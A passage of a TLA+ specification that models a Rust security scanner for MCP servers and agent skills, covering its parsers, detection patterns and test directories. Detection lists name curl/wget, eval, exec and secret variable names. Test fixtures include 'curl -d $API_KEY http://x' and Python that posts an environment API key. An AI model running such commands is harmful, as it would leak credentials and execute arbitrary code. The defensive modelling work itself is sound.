                    PythonLineFacts(path, i, content.lines[i], content.param_names)])
    IN  IF parsed.panicked THEN [status |-> "panic", parsed |-> EmptyParsedFile]
        ELSE [status |-> "ok", parsed |-> parsed]

(***************************************************************************)
(* parser/shell.rs: ShellParser.  A Shell file is its lines of text.       *)
(***************************************************************************)
\* CURL_WGET_RE = \b(curl|wget)\s+
CURL_WGET_RE ==
    <<<<Wb, Lit(<<"c", "u", "r", "l">>), Ws>>,
      <<Wb, Lit(<<"w", "g", "e", "t">>), Ws>>>>

\* EVAL_RE = \beval\s+
EVAL_RE == <<Wb, Lit(<<"e", "v", "a", "l">>), Ws>>

\* INSTALL_RE = \b(pip3?\s+install|npm\s+install|npm\s+i\b|yarn\s+add|pnpm\s+add)
INSTALL_RE ==
    <<<<Wb, Lit(<<"p", "i", "p">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
      <<Wb, Lit(<<"p", "i", "p", "3">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
      <<Wb, Lit(<<"n", "p", "m">>), Ws, Lit(<<"i", "n", "s", "t", "a", "l", "l">>)>>,
      <<Wb, Lit(<<"n", "p", "m">>), Ws, Lit(<<"i">>), Wb>>,
      <<Wb, Lit(<<"y", "a", "r", "n">>), Ws, Lit(<<"a", "d", "d">>)>>,
      <<Wb, Lit(<<"p", "n", "p", "m">>), Ws, Lit(<<"a", "d", "d">>)>>>>

\* is_match of an alternation
IsMatchAny(pats, s) == \E j \in 1..Len(pats) : is_match(pats[j], s)

\* BACKTICK_RE = `[^`]+`
BacktickMatch(s) ==
    \E i \in 1..Len(s), j \in 1..Len(s) :
        /\ j >= i + 2
        /\ s[i] = "<bt>"
        /\ s[j] = "<bt>"
        /\ \A m \in (i + 1)..(j - 1) : s[m] # "<bt>"

\* CURL_WGET_RE.find(trimmed).as_str().trim(): the alternative of the leftmost match
CurlWgetFind(s) ==
    LET starts(j) == {i \in 1..Len(s) : MatchFrom(s, i, CURL_WGET_RE[j], 1)}
        first == CHOOSE i \in starts(1) \cup starts(2) :
                    \A k \in starts(1) \cup starts(2) : i <= k
    IN  IF starts(1) \cup starts(2) = {} THEN None
        ELSE IF first \in starts(1) THEN Some(<<"c", "u", "r", "l">>)
        ELSE Some(<<"w", "g", "e", "t">>)

\* SENSITIVE_VAR_RE = (?i)\$\{?(AWS_|SECRET|TOKEN|PASSWORD|API_KEY|PRIVATE_KEY)
SHELL_SENSITIVE_NAMES ==
    {<<"A", "W", "S", "_">>, <<"S", "E", "C", "R", "E", "T">>, <<"T", "O", "K", "E", "N">>,
     <<"P", "A", "S", "S", "W", "O", "R", "D">>, <<"A", "P", "I", "_", "K", "E", "Y">>, <<"P", "R", "I", "V", "A", "T", "E", "_", "K", "E", "Y">>}

\* the text SENSITIVE_VAR_RE matches at position i, if any
SensitiveVarMatchAt(s, i) ==
    LET k == IF i + 1 <= Len(s) /\ s[i + 1] = "{" THEN i + 2 ELSE i + 1
        names == {w \in SHELL_SENSITIVE_NAMES : OccursAt(ToUpper(s), k, w)}
    IN  IF s[i] = "$" /\ names # {}
        THEN <<SubSeq(s, i, k + Len(CHOOSE w \in names : TRUE) - 1)>>
        ELSE <<>>

\* captures_iter: the matches left to right (each starts at its own '$')
SensitiveVarMatches(s) == Flatten([i \in 1..Len(s) |-> SensitiveVarMatchAt(s, i)])

\* one turn of "for (line_idx, line) in content.lines().enumerate()"
ShellLineFacts(file_path, line_num, line) ==
    LET trimmed == Trim(line)
        at == ParserLoc(file_path, line_num)
        func == CurlWgetFind(trimmed)
        vars_found == SensitiveVarMatches(trimmed)
    IN  IF StartsWith(trimmed, <<"#">>) \/ trimmed = <<>> THEN EmptyParsedFile
        ELSE ParsedFile(
            (IF BacktickMatch(trimmed)
             THEN <<[function |-> <<"b", "a", "c", "k", "t", "i", "c", "k">>,
                     command_arg |-> Interpolated, location |-> at]>>
             ELSE <<>>)
            \o (IF IsMatchAny(INSTALL_RE, trimmed)
                THEN <<[function |-> <<"p", "a", "c", "k", "a", "g", "e", "_", "i", "n", "s", "t", "a", "l", "l">>,
                        command_arg |-> Literal(trimmed), location |-> at]>>
                ELSE <<>>),
            <<>>,
            IF IsSome(func)
            THEN <<[function |-> func[1],
                    url_arg |-> IF ContainsChar(trimmed, "$") THEN Interpolated
                                ELSE Literal(trimmed),
                    method |-> None,
                    sends_data |-> \/ ContainsStr(trimmed, <<"-", "d", " ">>)
                                   \/ ContainsStr(trimmed, <<"-", "-", "d", "a", "t", "a">>),
                    location |-> at]>>
            ELSE <<>>,
            [k \in 1..Len(vars_found) |->
                [var_name |-> Literal(vars_found[k]), is_sensitive |-> TRUE, location |-> at]],
            IF is_match(EVAL_RE, trimmed)
            THEN <<[function |-> <<"e", "v", "a", "l">>, code_arg |-> Interpolated,
                    location |-> at]>>
            ELSE <<>>,
            FALSE)

\* ShellParser::parse_file: it never returns Err
ShellParseFile(path, content) ==
    [status |-> "ok",
     parsed |-> ConcatParsed([i \in 1..Len(content) |-> ShellLineFacts(path, i, content[i])])]

(***************************************************************************)
(* parser/typescript.rs: TypeScriptParser, the line-regex extractor.  A    *)
(* line of a TypeScript or JavaScript file is what ENV_ACCESS_RE and       *)
(* CALL_RE capture on it, as for Python.                                   *)
(***************************************************************************)
EXEC_PATTERNS ==
    {<<"e", "x", "e", "c">>,
     <<"e", "x", "e", "c", "S", "y", "n", "c">>,
     <<"e", "x", "e", "c", "F", "i", "l", "e">>,
     <<"e", "x", "e", "c", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"s", "p", "a", "w", "n">>,
     <<"s", "p", "a", "w", "n", "S", "y", "n", "c">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "e", "x", "e", "c">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "e", "x", "e", "c", "S", "y", "n", "c">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "e", "x", "e", "c", "F", "i", "l", "e">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "e", "x", "e", "c", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "s", "p", "a", "w", "n">>,
     <<"c", "h", "i", "l", "d", "_", "p", "r", "o", "c", "e", "s", "s", ".", "s", "p", "a", "w", "n", "S", "y", "n", "c">>,
     <<"c", "p", ".", "e", "x", "e", "c">>,
     <<"c", "p", ".", "e", "x", "e", "c", "S", "y", "n", "c">>,
     <<"c", "p", ".", "s", "p", "a", "w", "n">>,
     <<"c", "p", ".", "s", "p", "a", "w", "n", "S", "y", "n", "c">>,
     <<"s", "h", "e", "l", "l", "j", "s", ".", "e", "x", "e", "c">>,
     <<"e", "x", "e", "c", "a">>,
     <<"e", "x", "e", "c", "a", "S", "y", "n", "c">>}

TS_NETWORK_PATTERNS ==
    {<<"f", "e", "t", "c", "h">>,
     <<"h", "t", "t", "p", ".", "g", "e", "t">>,
     <<"h", "t", "t", "p", ".", "r", "e", "q", "u", "e", "s", "t">>,
     <<"h", "t", "t", "p", "s", ".", "g", "e", "t">>,
     <<"h", "t", "t", "p", "s", ".", "r", "e", "q", "u", "e", "s", "t">>,
     <<"a", "x", "i", "o", "s">>,
     <<"a", "x", "i", "o", "s", ".", "g", "e", "t">>,
     <<"a", "x", "i", "o", "s", ".", "p", "o", "s", "t">>,
     <<"a", "x", "i", "o", "s", ".", "p", "u", "t">>,
     <<"a", "x", "i", "o", "s", ".", "p", "a", "t", "c", "h">>,
     <<"a", "x", "i", "o", "s", ".", "d", "e", "l", "e", "t", "e">>,
     <<"a", "x", "i", "o", "s", ".", "r", "e", "q", "u", "e", "s", "t">>,
     <<"g", "o", "t">>,
     <<"g", "o", "t", ".", "g", "e", "t">>,
     <<"g", "o", "t", ".", "p", "o", "s", "t">>,
     <<"g", "o", "t", ".", "p", "u", "t">>,
     <<"g", "o", "t", ".", "p", "a", "t", "c", "h">>,
     <<"g", "o", "t", ".", "d", "e", "l", "e", "t", "e">>,
     <<"r", "e", "q", "u", "e", "s", "t">>,
     <<"r", "e", "q", "u", "e", "s", "t", ".", "g", "e", "t">>,
     <<"r", "e", "q", "u", "e", "s", "t", ".", "p", "o", "s", "t">>,
     <<"s", "u", "p", "e", "r", "a", "g", "e", "n", "t", ".", "g", "e", "t">>,
     <<"s", "u", "p", "e", "r", "a", "g", "e", "n", "t", ".", "p", "o", "s", "t">>,
     <<"u", "n", "d", "i", "c", "i", ".", "f", "e", "t", "c", "h">>,
     <<"u", "n", "d", "i", "c", "i", ".", "r", "e", "q", "u", "e", "s", "t">>}

FILE_PATTERNS ==
    {<<"r", "e", "a", "d", "F", "i", "l", "e">>,
     <<"r", "e", "a", "d", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"w", "r", "i", "t", "e", "F", "i", "l", "e">>,
     <<"w", "r", "i", "t", "e", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"a", "p", "p", "e", "n", "d", "F", "i", "l", "e">>,
     <<"a", "p", "p", "e", "n", "d", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"u", "n", "l", "i", "n", "k">>,
     <<"u", "n", "l", "i", "n", "k", "S", "y", "n", "c">>,
     <<"r", "e", "a", "d", "d", "i", "r">>,
     <<"r", "e", "a", "d", "d", "i", "r", "S", "y", "n", "c">>,
     <<"f", "s", ".", "r", "e", "a", "d", "F", "i", "l", "e">>,
     <<"f", "s", ".", "r", "e", "a", "d", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"f", "s", ".", "w", "r", "i", "t", "e", "F", "i", "l", "e">>,
     <<"f", "s", ".", "w", "r", "i", "t", "e", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"f", "s", ".", "a", "p", "p", "e", "n", "d", "F", "i", "l", "e">>,
     <<"f", "s", ".", "a", "p", "p", "e", "n", "d", "F", "i", "l", "e", "S", "y", "n", "c">>,
     <<"f", "s", ".", "u", "n", "l", "i", "n", "k">>,
     <<"f", "s", ".", "u", "n", "l", "i", "n", "k", "S", "y", "n", "c">>,
     <<"f", "s", ".", "r", "e", "a", "d", "d", "i", "r">>,
     <<"f", "s", ".", "r", "e", "a", "d", "d", "i", "r", "S", "y", "n", "c">>,
     <<"f", "s", ".", "p", "r", "o", "m", "i", "s", "e", "s", ".", "r", "e", "a", "d", "F", "i", "l", "e">>,
     <<"f", "s", ".", "p", "r", "o", "m", "i", "s", "e", "s", ".", "w", "r", "i", "t", "e", "F", "i", "l", "e">>,
     <<"f", "s", ".", "p", "r", "o", "m", "i", "s", "e", "s", ".", "u", "n", "l", "i", "n", "k">>,
     <<"f", "s", ".", "p", "r", "o", "m", "i", "s", "e", "s", ".", "r", "e", "a", "d", "d", "i", "r">>,
     <<"D", "e", "n", "o", ".", "r", "e", "a", "d", "T", "e", "x", "t", "F", "i", "l", "e">>,
     <<"D", "e", "n", "o", ".", "w", "r", "i", "t", "e", "T", "e", "x", "t", "F", "i", "l", "e">>,
     <<"D", "e", "n", "o", ".", "r", "e", "a", "d", "F", "i", "l", "e">>,
     <<"D", "e", "n", "o", ".", "w", "r", "i", "t", "e", "F", "i", "l", "e">>,
     <<"B", "u", "n", ".", "f", "i", "l", "e">>}

TS_DYNAMIC_EXEC_PATTERNS ==
    {<<"e", "v", "a", "l">>,
     <<"F", "u", "n", "c", "t", "i", "o", "n">>,
     <<"v", "m", ".", "r", "u", "n", "I", "n", "T", "h", "i", "s", "C", "o", "n", "t", "e", "x", "t">>,
     <<"v", "m", ".", "r", "u", "n", "I", "n", "N", "e", "w", "C", "o", "n", "t", "e", "x", "t">>}

\* sends_data of a network call
TypeScriptSendsData(func_name, args_str) ==
    \/ ContainsStr(func_name, <<"p", "o", "s", "t">>)
    \/ ContainsStr(func_name, <<"p", "u", "t">>)
    \/ ContainsStr(func_name, <<"p", "a", "t", "c", "h">>)
    \/ ContainsStr(args_str, <<"b", "o", "d", "y", ":">>)
    \/ ContainsStr(args_str, <<"d", "a", "t", "a", ":">>)

\* the operation of a file call
TypeScriptFileOpType(func_name) ==
    IF \/ ContainsStr(func_name, <<"w", "r", "i", "t", "e">>)
       \/ ContainsStr(func_name, <<"a", "p", "p", "e", "n", "d">>)
    THEN "write"
    ELSE IF ContainsStr(func_name, <<"u", "n", "l", "i", "n", "k">>) THEN "delete"
    ELSE IF ContainsStr(func_name, <<"r", "e", "a", "d", "d", "i", "r">>) THEN "list"
    ELSE "read"

\* the body of "for cap in CALL_RE.captures_iter(line)"
TypeScriptCallFacts(file_path, line_num, call, param_names) ==
    LET func_name == call.func_name
        args_str == call.args_str
        arg_source == classify_argument_text(args_str, param_names)
        at == ParserLoc(file_path, line_num)
    IN  IF arg_source = Panic
        THEN ParsedFile(<<>>, <<>>, <<>>, <<>>, <<>>, TRUE)
        ELSE ParsedFile(
            IF MatchesPattern(func_name, EXEC_PATTERNS)
            THEN <<[function |-> func_name, command_arg |-> arg_source, location |-> at]>>
            ELSE <<>>,
            IF MatchesPattern(func_name, FILE_PATTERNS)
            THEN <<[operation |-> TypeScriptFileOpType(func_name), path_arg |-> arg_source,
                    location |-> at]>>
            ELSE <<>>,
            IF MatchesPattern(func_name, TS_NETWORK_PATTERNS)
            THEN <<[function |-> func_name, url_arg |-> arg_source,
                    method |-> PythonMethod(func_name),
                    sends_data |-> TypeScriptSendsData(func_name, args_str),
                    location |-> at]>>
            ELSE <<>>,
            <<>>,
            IF func_name \in TS_DYNAMIC_EXEC_PATTERNS
            THEN <<[function |-> func_name, code_arg |-> arg_source, location |-> at]>>
            ELSE <<>>,
            FALSE)

\* one turn of the scan over the lines
TypeScriptLineFacts(file_path, line_num, line, param_names) ==
    IF line.comment THEN EmptyParsedFile
    ELSE ExtendParsed(
            ConcatParsed([k \in 1..Len(line.envs) |->
                            PythonEnvFact(file_path, line_num, line.envs[k])]),
            ConcatParsed([k \in 1..Len(line.calls) |->
                            TypeScriptCallFacts(file_path, line_num, line.calls[k],
                                                param_names)]))

\* TypeScriptParser::parse_file (function_params is not modelled: nothing reads it)
TypeScriptParseFile(path, content) ==
    LET parsed == ConcatParsed([i \in 1..Len(content.lines) |->
                    TypeScriptLineFacts(path, i, content.lines[i], content.param_names)])
    IN  IF parsed.panicked THEN [status |-> "panic", parsed |-> EmptyParsedFile]
        ELSE [status |-> "ok", parsed |-> parsed]

(***************************************************************************)
(* parser/mod.rs: parser_for_language.  The module declares json_schema,   *)
(* python and shell only.                                                  *)
(***************************************************************************)
parser_for_language(lang) ==
    CASE lang = "python" -> Some("PythonParser")
      [] lang = "shell" -> Some("ShellParser")
      [] OTHER -> None

\* parser.parse_file(&sf.path, &sf.content)
ParseFile(parser, path, content) ==
    CASE parser = "PythonParser" -> PythonParseFile(path, content)
      [] parser = "ShellParser" -> ShellParseFile(path, content)

(***************************************************************************)
(* ir/mod.rs: Language::from_extension.  ext.to_lowercase() is compared    *)
(* with lower-case names; the model folds both sides to upper case.        *)
(***************************************************************************)
from_extension(ext) ==
    LET e == ToUpper(ext)
    IN  CASE e \in {<<"P", "Y">>} -> "python"
      [] e \in {<<"T", "S">>, <<"T", "S", "X">>} -> "typescript"
      [] e \in {<<"J", "S">>, <<"J", "S", "X">>, <<"M", "J", "S">>, <<"C", "J", "S">>} -> "javascript"
      [] e \in {<<"S", "H">>, <<"B", "A", "S", "H">>, <<"Z", "S", "H">>} -> "shell"
      [] e \in {<<"J", "S", "O", "N">>} -> "json"
      [] e \in {<<"T", "O", "M", "L">>} -> "toml"
      [] e \in {<<"Y", "M", "L">>, <<"Y", "A", "M", "L">>} -> "yaml"
      [] e \in {<<"M", "D">>, <<"M", "A", "R", "K", "D", "O", "W", "N">>} -> "markdown"
      [] OTHER -> "unknown"

(***************************************************************************)
(* std::path: file_name, extension and join.                               *)
(***************************************************************************)
\* Path::file_name: the last component when it is a normal one
FileName(path) ==
    LET c == Components(path)
    IN  IF c = <<>> \/ c[Len(c)] \in {<<"/">>, <<".">>, <<".", ".">>} THEN None
        ELSE Some(c[Len(c)])

\* Path::extension().map(to_string).unwrap_or_default(): the text after the last
\* '.' of the file name, unless the name has none or only a leading one
Extension(path) ==
    LET name == FileName(path)
        dots == IF IsSome(name) THEN {i \in 1..Len(name[1]) : name[1][i] = "."} ELSE {}
        last == CHOOSE i \in dots : \A j \in dots : j <= i
    IN  IF dots = {} \/ last = 1 THEN <<>>
        ELSE SubSeq(name[1], last + 1, Len(name[1]))

\* Path::join with a relative file name
PathJoin(dir, name) == dir \o <<"/">> \o name

\* the depth of a walked entry below the root (the root itself is at depth 0)
Depth(root_path, path) == Len(Components(path)) - Len(Components(root_path))

(***************************************************************************)
(* The scanned directory.  entries is what ignore::WalkBuilder yields      *)
(* below the root, in walk order, hidden and git-ignored entries left out  *)
(* and walk errors dropped by flatten(); an entry's metadata is the length *)
(* std::fs::metadata reports (None when the lookup fails) and its content  *)
(* is what read_to_string returns (None when it fails).  The manifests are *)
(* given by what the code reads of them.  tools.json and the provenance    *)
(* fields are left at their defaults: no detector reads them.              *)
(***************************************************************************)
MaxFileSize == 1048576

\* the entries the walker yields with max_depth(Some(max_depth))
Walk(dir, max_depth) ==
    LET Within(e) == Depth(dir.path, e.path) <= max_depth
    IN  SelectSeq(dir.entries, Within)

\* one turn of the collection loop: "skip" (continue), "push" or "err" (the ?)
CollectEntry(entry, languages) ==
    LET lang == from_extension(Extension(entry.path))
    IN  IF ~entry.is_file THEN [step |-> "skip"]
        ELSE IF lang \notin languages THEN [step |-> "skip"]
        ELSE IF entry.metadata = None THEN [step |-> "err"]
        ELSE IF entry.metadata[1] > MaxFileSize THEN [step |-> "skip"]
        ELSE IF entry.content = None THEN [step |-> "skip"]
        ELSE [step |-> "push",
              file |-> [path |-> entry.path,
                        language |-> lang,
                        content |-> entry.content[1],
                        size_bytes |-> entry.metadata[1],
                        content_hash |-> <<"sha256", entry.content[1]>>]]

\* the collection loop over the walked entries: Err at the first failed metadata
\* lookup, the files pushed otherwise
RECURSIVE CollectFiles(_, _, _)
CollectFiles(entries, languages, files) ==
    IF entries = <<>> THEN [ok |-> TRUE, files |-> files]
    ELSE LET step == CollectEntry(Head(entries), languages)
         IN  CASE step.step = "err" -> [ok |-> FALSE, files |-> <<>>]
               [] step.step = "skip" -> CollectFiles(Tail(entries), languages, files)
               [] step.step = "push" ->
                    CollectFiles(Tail(entries), languages, Append(files, step.file))

AllLanguages ==
    {"python", "typescript", "javascript", "shell", "json", "toml", "yaml", "markdown"}

\* adapter/mcp.rs: collect_source_files
collect_source_files(dir) == CollectFiles(Walk(dir, 5), AllLanguages, <<>>)

\* the "Parse each source file" loop of both adapters: a file without a parser or
\* whose parse returns Err adds nothing
ParseSourceFile(sf) ==
    LET parser == parser_for_language(sf.language)
    IN  IF parser = None THEN [status |-> "ok", parsed |-> EmptyParsedFile]
        ELSE LET res == ParseFile(parser[1], sf.path, sf.content)
             IN  IF res.status = "err" THEN [status |-> "ok", parsed |-> EmptyParsedFile]
                 ELSE res

ParseSourceFiles(source_files) ==
    LET results == [i \in 1..Len(source_files) |-> ParseSourceFile(source_files[i])]
    IN  ConcatParsed([i \in 1..Len(results) |->
                        IF results[i].status = "panic"
                        THEN ParsedFile(<<>>, <<>>, <<>>, <<>>, <<>>, TRUE)
                        ELSE results[i].parsed])

(***************************************************************************)
(* adapter/mcp.rs: parse_dependencies.                                     *)
(***************************************************************************)
\* str::find(&str): the first position of w in s, 0 when there is none
FindStr(s, w) ==
    LET at == {i \in 1..(Len(s) + 1) : OccursAt(s, i, w)}
    IN  IF at = {} THEN 0 ELSE CHOOSE i \in at : \A j \in at : i <= j

\* the (name, version) of a requirements.txt line (lines 190-202)
RequirementNameVersion(line) ==
    LET eq == FindStr(line, <<"=", "=">>)
        ge == FindStr(line, <<">", "=">>)
    IN  IF eq > 0
        THEN <<Trim(SubSeq(line, 1, eq - 1)), Some(Trim(SubSeq(line, eq + 2, Len(line))))>>
        ELSE IF ge > 0
        THEN <<Trim(SubSeq(line, 1, ge - 1)), Some(Trim(SubSeq(line, ge, Len(line))))>>
        ELSE <<line, None>>

\* one turn of the loop over the lines of requirements.txt
RequirementDependency(req_file, idx, raw) ==
    LET line == Trim(raw)
        nv == RequirementNameVersion(line)
    IN  IF line = <<>> \/ StartsWith(line, <<"#">>) \/ StartsWith(line, <<"-">>) THEN <<>>
        ELSE <<[name |-> nv[1],
                version_constraint |-> nv[2],
                locked_version |-> None,
                locked_hash |-> None,
                registry |-> "pypi",
                is_dev |-> FALSE,
                location |-> Some(SourceLocation(req_file, idx + 1))]>>

\* a dependency of package.json: it carries no location
NpmDependency(dep) ==
    [name |-> dep.name,
     version_constraint |-> dep.version,
     locked_version |-> None,
     locked_hash |-> None,
     registry |-> "npm",
     is_dev |-> dep.is_dev,
     location |-> None]

PythonLockfiles ==
    <<<<"P", "i", "p", "f", "i", "l", "e", ".", "l", "o", "c", "k">>, <<"p", "o", "e", "t", "r", "y", ".", "l", "o", "c", "k">>, <<"u", "v", ".", "l", "o", "c", "k">>>>

\* surface.lockfile: the first Python lockfile present, replaced by
\* package-lock.json when package.json and it exist
DependencyLockfile(dir) ==
    LET present == {k \in 1..Len(PythonLockfiles) : PythonLockfiles[k] \in dir.lockfiles}
        npm_lock == <<"p", "a", "c", "k", "a", "g", "e", "-", "l", "o", "c", "k", ".", "j", "s", "o", "n">>
    IN  IF IsSome(dir.package_json) /\ npm_lock \in dir.lockfiles
        THEN Some([path |-> PathJoin(dir.path, npm_lock), format |-> "NpmLock",
                   all_pinned |-> TRUE, all_hashed |-> FALSE])
        ELSE IF present = {} THEN None
        ELSE LET k == CHOOSE i \in present : \A j \in present : i <= j
             IN  Some([path |-> PathJoin(dir.path, PythonLockfiles[k]),
                       format |-> <<"PipenvLock", "PoetryLock", "UvLock">>[k],
                       all_pinned |-> TRUE, all_hashed |-> FALSE])

parse_dependencies(dir) ==
    LET req_file == PathJoin(dir.path, <<"r", "e", "q", "u", "i", "r", "e", "m", "e", "n", "t", "s", ".", "t", "x", "t">>)
        reqs == IF IsSome(dir.requirements)
                THEN Flatten([i \in 1..Len(dir.requirements[1]) |->
                        RequirementDependency(req_file, i - 1, dir.requirements[1][i])])
                ELSE <<>>
        npm == IF IsSome(dir.package_json)
               THEN [i \in 1..Len(dir.package_json[1].dependencies) |->
                        NpmDependency(dir.package_json[1].dependencies[i])]
               ELSE <<>>
    IN  [dependencies |-> reqs \o npm, lockfile |-> DependencyLockfile(dir), issues |-> <<>>]

\* Default::default() of a DependencySurface
DefaultDependencies == [dependencies |-> <<>>, lockfile |-> None, issues |-> <<>>]

(***************************************************************************)
(* adapter/mcp.rs and adapter/openclaw.rs: detect and load.  A load        *)
(* returns Ok(targets) or Err, or panics when an extractor panics.         *)
(***************************************************************************)
\* the ScanTarget both adapters build
LoadedTarget(framework, dir, default_name, source_files, parsed, dependencies) ==
    [name |-> IF IsSome(FileName(dir.path)) THEN FileName(dir.path)[1] ELSE default_name,
     framework |-> framework,
     root_path |-> dir.path,
     tools |-> <<>>,
     execution |-> [commands |-> parsed.commands,
                    file_operations |-> parsed.file_operations,
                    network_operations |-> parsed.network_operations,
                    env_accesses |-> parsed.env_accesses,
                    dynamic_exec |-> parsed.dynamic_exec],
     data |-> <<>>,
     dependencies |-> dependencies,
     provenance |-> <<>>,
     source_files |-> source_files]

\* the result of a load from what its collection loop returned
LoadFrom(framework, dir, default_name, collected, dependencies) ==
    LET parsed == ParseSourceFiles(collected.files)
    IN  IF ~collected.ok THEN [status |-> "err", targets |-> <<>>]
        ELSE IF parsed.panicked THEN [status |-> "panic", targets |-> <<>>]
        ELSE [status |-> "ok",
              targets |-> <<LoadedTarget(framework, dir, default_name, collected.files,
                                         parsed, dependencies)>>]

\* McpAdapter::detect
McpDetect(dir) ==
    \/ IsSome(dir.package_json) /\ dir.package_json[1].mentions_mcp
    \/ dir.mcp_markers # {}
    \/ /\ IsSome(dir.requirements)
       /\ \E i \in 1..Len(dir.requirements[1]) :
            StartsWith(Trim(dir.requirements[1][i]), <<"m", "c", "p">>)

\* McpAdapter::load
McpLoad(dir) ==
    LoadFrom("mcp", dir, <<"m", "c", "p", "-", "s", "e", "r", "v", "e", "r">>, collect_source_files(dir),
             parse_dependencies(dir))

\* OpenClawAdapter::detect
OpenClawDetect(dir) == dir.skill_md

\* OpenClawAdapter::load
OpenClawLoad(dir) ==
    LoadFrom("openclaw", dir, <<"o", "p", "e", "n", "c", "l", "a", "w", "-", "s", "k", "i", "l", "l">>,
             CollectFiles(Walk(dir, 3), {"python", "shell", "markdown"}, <<>>),
             DefaultDependencies)

\* what an adapter does on the directory, as auto_detect_and_load sees it
AdapterOutcome(detected, loaded) ==
    IF ~detected THEN NotDetected
    ELSE IF loaded.status = "ok" THEN Loaded(loaded.targets)
    ELSE LoadFailed

\* all_adapters, with what the load of each returns on the directory
AdapterOutcomes(dir, loads) ==
    <<AdapterOutcome(McpDetect(dir), loads[1]),
      AdapterOutcome(OpenClawDetect(dir), loads[2])>>

\* a detected adapter's load panics: auto_detect_and_load does not return
AdapterPanics(dir, loads) ==
    \/ McpDetect(dir) /\ loads[1].status = "panic"
    \/ OpenClawDetect(dir) /\ loads[2].status = "panic"

(***************************************************************************)
(* The adapters on their own: directories to load.                         *)
(***************************************************************************)
MaxEntries == 2     \* entries the walker yields in a directory

RootPath == <<"r">>

Call(func_name, args_str) == [func_name |-> func_name, args_str |-> args_str]

Line(envs, calls) == [comment |-> FALSE, envs |-> envs, calls |-> calls]

Entry(name, is_file, metadata, content) ==
    [path |-> PathJoin(RootPath, name), is_file |-> is_file, metadata |-> metadata,
     content |-> content]

\* def run(cmd):
\*     subprocess.run(cmd, shell=True)
CommandPy ==
    [param_names |-> {<<"c", "m", "d">>},
     lines |-> <<Line(<<>>, <<Call(<<"r", "u", "n">>, <<"c", "m", "d">>)>>),
                 Line(<<>>, <<Call(<<"s", "u", "b", "p", "r", "o", "c", "e", "s", "s", ".", "r", "u", "n">>,
                                   <<"c", "m", "d", ",", " ", "s", "h", "e", "l", "l", "=", "T", "r", "u", "e">>)>>)>>]

\* k = os.environ["API_KEY"]
\* requests.post(url, data=k)
ExfilPy ==
    [param_names |-> {},
     lines |-> <<Line(<<<<"A", "P", "I", "_", "K", "E", "Y">>>>, <<>>),
                 Line(<<>>, <<Call(<<"r", "e", "q", "u", "e", "s", "t", "s", ".", "p", "o", "s", "t">>,
                                   <<"u", "r", "l", ",", " ", "d", "a", "t", "a", "=", "k">>)>>)>>]

\* print(")")
PanicPy ==
    [param_names |-> {},
     lines |-> <<Line(<<>>, <<Call(<<"p", "r", "i", "n", "t">>, <<"\"">>)>>)>>]

\* function run(cmd) {
\*     exec(cmd);
CommandTs ==
    [param_names |-> {<<"c", "m", "d">>},
     lines |-> <<Line(<<>>, <<Call(<<"r", "u", "n">>, <<"c", "m", "d">>)>>),
                 Line(<<>>, <<Call(<<"e", "x", "e", "c">>, <<"c", "m", "d">>)>>)>>]

InstallSh ==
    <<<<"#", " ", "s", "e", "t", "u", "p">>,
      <<"c", "u", "r", "l", " ", "-", "d", " ", "$", "A", "P", "I", "_", "K", "E", "Y", " ", "h", "t", "t", "p", ":", "/", "/", "x">>,
      <<"p", "i", "p", " ", "i", "n", "s", "t", "a", "l", "l", " ", "x">>>>

\* the entries a walk can yield, in the order it yields them
EntryPool ==
    <<Entry(<<"R", "E", "A", "D", "M", "E", ".", "m", "d">>, TRUE, Some(5), Some(<<>>)),
      Entry(<<"a", ".", "p", "y">>, TRUE, Some(40), Some(CommandPy)),
      Entry(<<"b", ".", "p", "y">>, TRUE, Some(50), Some(ExfilPy)),
      Entry(<<"b", "i", "g", ".", "p", "y">>, TRUE, Some(MaxFileSize + 1), Some(CommandPy)),
      Entry(<<"d">>, FALSE, Some(0), None),
      Entry(<<"e", ".", "t", "s">>, TRUE, None, Some(CommandTs)),
      Entry(<<"j", ".", "J", "S">>, TRUE, Some(30), Some(CommandTs)),
      Entry(<<"m", ".", "p", "y">>, TRUE, None, Some(CommandPy)),
      Entry(<<"m", "a", "x", ".", "p", "y">>, TRUE, Some(MaxFileSize), Some(CommandPy)),
      Entry(<<"n", ".", "t", "x", "t">>, TRUE, Some(5), Some(<<>>)),
      Entry(<<"p", ".", "p", "y">>, TRUE, Some(10), Some(PanicPy)),
      Entry(<<"s", ".", "s", "h">>, TRUE, Some(45), Some(InstallSh)),
      Entry(<<"u", ".", "p", "y">>, TRUE, Some(40), None),
      Entry(<<"w", "/", "x", "/", "y", "/", "z", ".", "p", "y">>, TRUE, Some(40), Some(CommandPy))>>

\* what the manifests of a directory hold
Manifests(mcp_markers, skill_md, requirements, package_json, lockfiles) ==
    [mcp_markers |-> mcp_markers, skill_md |-> skill_md, requirements |-> requirements,
     package_json |-> package_json, lockfiles |-> lockfiles]

ManifestInputs ==
    {Manifests({}, FALSE, None, None, {}),
     Manifests({}, TRUE, None, None, {}),
     Manifests({"pyproject.toml"}, TRUE, None, None, {<<"u", "v", ".", "l", "o", "c", "k">>}),
     Manifests({}, FALSE,
               Some(<<<<"#", " ", "d", "e", "p", "s">>, <<"m", "c", "p", "=", "=", "1", ".", "0">>, <<" ", "r", "e", "q", "u", "e", "s", "t", "s", " ", ">", "=", " ", "2">>>>),
               None, {<<"p", "o", "e", "t", "r", "y", ".", "l", "o", "c", "k">>, <<"u", "v", ".", "l", "o", "c", "k">>}),
     Manifests({}, TRUE, Some(<<<<"f", "l", "a", "s", "k">>>>),
               Some([mentions_mcp |-> TRUE,
